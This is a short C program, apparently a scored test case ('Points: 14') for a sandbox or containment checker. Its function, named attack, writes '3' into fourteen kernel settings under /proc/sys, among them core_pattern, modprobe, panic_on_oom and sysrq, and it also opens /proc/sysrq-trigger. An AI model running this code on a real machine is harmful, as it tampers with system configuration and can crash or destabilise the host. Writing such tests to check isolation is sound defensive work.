// Changes the machine's settings, by way of /proc/sys.
// Points: 14
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static void attack(void)
{
    const char *names[]
        = {"vm/swappiness",        "vm/drop_caches",
           "vm/overcommit_memory", "vm/panic_on_oom",
           "kernel/core_pattern",  "kernel/panic",
           "kernel/pid_max",       "kernel/threads-max",
           "kernel/modprobe",      "kernel/sysrq",
           "fs/file-max",          "kernel/unprivileged_userns_clone",
           "net/core/somaxconn",   "kernel/printk"};
    for (int i = 0; i < 14; i++) {
        char path[128];
        snprintf(path, sizeof path, "/proc/sys/%s", names[i]);
        int file = open(path, O_WRONLY);
        if (file != -1) {
            write(file, "3", 1);
            close(file);
        }
    }
    int file = open("/proc/sysrq-trigger", O_WRONLY);
    if (file != -1)
        close(file);
}
